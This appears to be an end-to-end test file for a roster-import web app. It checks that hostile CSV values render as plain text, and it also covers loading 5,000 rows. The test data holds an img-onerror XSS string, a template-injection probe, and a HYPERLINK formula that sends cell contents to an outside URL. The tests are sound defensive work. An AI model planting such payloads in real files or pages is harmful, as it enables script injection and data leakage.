import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { onStage } from '../support/page/on-stage';
import { allRegistered, build, button, check } from '../support/page/steps';

const HOSTILE = `<img src=x onerror="document.title='taken'">`;
const FORMULA = '=HYPERLINK("http://example.com/?"&A2,"click")';

/** A roster as a vendor's file, removed at the end. */
async function withRoster(name: string, lines: readonly string[], work: (path: string) => Promise<void>) {
  const folder = mkdtempSync(join(tmpdir(), 'ce-roster-file-'));
  const path = join(folder, name);
  writeFileSync(path, lines.join('\n'));
  try {
    await work(path);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;

test('hostile names and formulas are shown as text in grid, sidebar, credit tab and GrowthZone', () => {
  const line = (...cells: string[]) => [...cells, 'COEC', 'Y', '05/14/2026'].map(quoted).join(',');
  const lines = [
    'NRDS ID,First Name,Last Name,Email,Office,Credit,Earned,Class Date',
    line('999990001', HOSTILE, 'Marrow', 'm@example.com', '<b>Harbor</b> Realty'),
    line('999990002', 'Nora', '{{7*7}}', 'n@example.com', FORMULA),
  ];
  return withRoster('hostile.csv', lines, (path) =>
    onStage(path, async (window, stage) => {
      const { page, sidebar } = window;
      stage.workbench.association.store.addMembers([{ memberId: '999990001', firstName: HOSTILE, lastName: 'Marrow' }]);
      await check(window);
      await window.shows('hostile', 2, 2, HOSTILE);
      for (const summary of await sidebar.locator('summary').all()) await summary.click();
      await sidebar.getByText(FORMULA).first().waitFor();
      await button(window, /^1 credit$/).click();
      await sidebar.getByText(HOSTILE).first().waitFor();
      expect(await sidebar.locator('img').count()).toBe(0);
      await build(window);
      await window.shows('COEC', 2, 2, HOSTILE);
      await button(window, 'Import 1 attendee').click();
      await allRegistered(window);
      await page.getByRole('tab', { name: 'GrowthZone now' }).click();
      await page.getByText('1 registered').click();
      await page.getByRole('cell', { name: HOSTILE }).waitFor();
      expect(await page.locator('.growthzone img').count()).toBe(0);
      expect(await page.title()).toBe('hostile.csv - CE Roster workbench');
    }),
  );
});

test('5,000 rows open, scroll and check', () => {
  const header = 'NRDS ID,First Name,Last Name,Email,Office,Credit,Earned,Class Date';
  const rows = Array.from(
    { length: 5000 },
    (_, place) => `${999000000 + place * 7},Ana,Alvarez${place},a${place}@example.com,Harbor Realty,COEC,Y,05/14/2026`,
  );
  return withRoster('large.csv', [header, ...rows], (path) =>
    onStage(path, async (window) => {
      const { page, sidebar } = window;
      await window.select('large', 5001, 1);
      await window.speaks(/^A5001, 999034993$/);
      await window.select('large', 1, 1);
      await page.mouse.move(400, 400);
      await page.mouse.wheel(0, 30_000);
      await page.mouse.click(400, 400);
      await window.speaks(/^[A-H]\d{4}, /);
      await button(window, 'Check 5,001 rows').click();
      await sidebar.getByText('5,001 rows', { exact: true }).waitFor();
      await window.shows('large', 1, 9, 'CE Outcome');
      expect(await window.cell('large', 5001, 9)).toMatch(/^(Credit: COEC|Fix needed)/);
      // Thousands of rows are not drawn at once, and each batch on demand.
      await sidebar
        .getByRole('button', { name: /^[\d,]+ (credit|to fix)$/ })
        .filter({ hasNotText: /^0 / })
        .first()
        .click();
      await button(window, /^Show 100 more$/).click();
      expect(await sidebar.locator('ul.rows li').count()).toBe(125);
    }),
  );
});
